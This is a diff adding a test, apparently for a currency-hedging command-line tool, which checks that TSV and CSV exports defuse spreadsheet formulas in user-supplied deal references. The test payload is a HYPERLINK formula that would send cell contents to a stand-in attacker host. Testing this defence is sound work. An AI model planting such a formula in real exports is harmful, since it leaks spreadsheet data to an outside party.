@@ -170,3 +170,22 @@ describe('refusals', () => {
     expect(accountRow).toEqual(accountHeader!.map((key) => cell(expected[key])));
   });
 });
+
+describe('cells a spreadsheet would run as formulas (a deal reference is the user’s text)', () => {
+  it('TSV defuses them exactly as CSV does: a leading quote, numbers left alone', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
+    const own = await startSimulator();
+    try {
+      const opened = await own.hedge(['open', 'USDTNGN', 'sell', '1000', '--tenor', '3', '--ref', formula, '--json']);
+      expect(opened.code, opened.stderr).toBe(0);
+      expect(own.hedges().map((hedge) => hedge.clientReference)).toEqual([formula]);
+      const tsv = await own.hedge(['hedges', '--format', 'tsv', '--fields', 'client_reference,notional_usd']);
+      const csv = await own.hedge(['hedges', '--format', 'csv', '--fields', 'client_reference,notional_usd']);
+      expect(tsv.code, tsv.stderr).toBe(0);
+      expect(tsv.stdout.trimEnd().split('\n')).toEqual(['client_reference\tnotional_usd', `'${formula}\t1000`]);
+      expect(parse(csv.stdout)).toEqual([['client_reference', 'notional_usd'], [`'${formula}`, '1000']]);
+    } finally {
+      await own.close();
+    }
+  });
+});
